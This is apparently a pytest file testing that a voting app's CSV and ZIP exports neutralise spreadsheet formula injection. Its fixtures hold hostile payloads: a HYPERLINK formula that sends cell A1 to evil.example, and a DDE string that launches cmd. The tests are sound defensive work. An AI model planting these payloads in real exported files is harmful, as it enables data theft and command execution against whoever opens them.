"""Names a council types must not become spreadsheet formulas in the files pbvote hands out (issue 16 item 5)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from pbvote.safecsv import csv_bytes, safe_cell, safe_writer

HOSTILE_ROUND = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HOSTILE_DISTRICTS = ("+North", "-South", "@East", "=1+1")  # names are stripped, so no leading tab or CR


@pytest.mark.parametrize("text", [HOSTILE_ROUND, *HOSTILE_DISTRICTS, "\tWest", "\rCentre", "=", "+", "-", "@"])
def test_cells_starting_like_a_formula_are_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["North", "", "a=b", "1+1", "O'Brien", " =x"])
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(("value", "text"), [(-5, "-5"), (12, "12"), (Decimal("-1.50"), "-1.50"), (2.5, "2.5"),
                                             (None, ""), (True, "True")])
def test_numbers_stay_numbers(value, text):
    """A negative number is a number to a spreadsheet, not a formula: audit files keep it as it is."""
    assert safe_cell(value) == text


def test_csv_bytes_writes_a_header_and_neutralised_rows():
    data = csv_bytes(["name", "amount"], [["=cmd|' /C calc'!A0", -3], ["Park", 10]])
    assert data.decode("utf-8") == "name,amount\r\n'=cmd|' /C calc'!A0,-3\r\nPark,10\r\n"


def test_safe_writer_streams_rows_into_a_text_file():
    buffer = io.StringIO()
    writer = safe_writer(buffer)
    writer.writerow(["@SUM(A1:A9)", 1])
    writer.writerows([["+x"], ["y"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'@SUM(A1:A9)", "1"], ["'+x"], ["y"]]


@pytest.fixture
def hostile_round(new_round, council):
    return new_round(name=HOSTILE_ROUND, districts=HOSTILE_DISTRICTS, actor=council)


def _download(client, round_, output: str, district_index: int):
    return client.post_form(f"/rounds/{round_.id}/voters/codes", {
        "count": "1", "district_id": str(round_.districts[district_index].id), "output": output,
    })


def test_the_voter_codes_csv_is_formula_safe_and_says_its_charset_once(hostile_round, council, client_for):
    client = client_for(council)
    for index, district in enumerate(HOSTILE_DISTRICTS):
        response = _download(client, hostile_round, "csv", index)
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        (row,) = csv.DictReader(io.StringIO(response.data.decode("utf-8")))
        assert row["round"] == "'" + HOSTILE_ROUND
        assert row["district"] == "'" + district


def test_the_csv_inside_the_zip_is_formula_safe(hostile_round, council, client_for):
    response = _download(client_for(council), hostile_round, "zip", 0)
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    (row,) = csv.DictReader(io.StringIO(archive.read("voter-codes.csv").decode("utf-8")))
    assert row["round"] == "'" + HOSTILE_ROUND and row["district"] == "'+North"
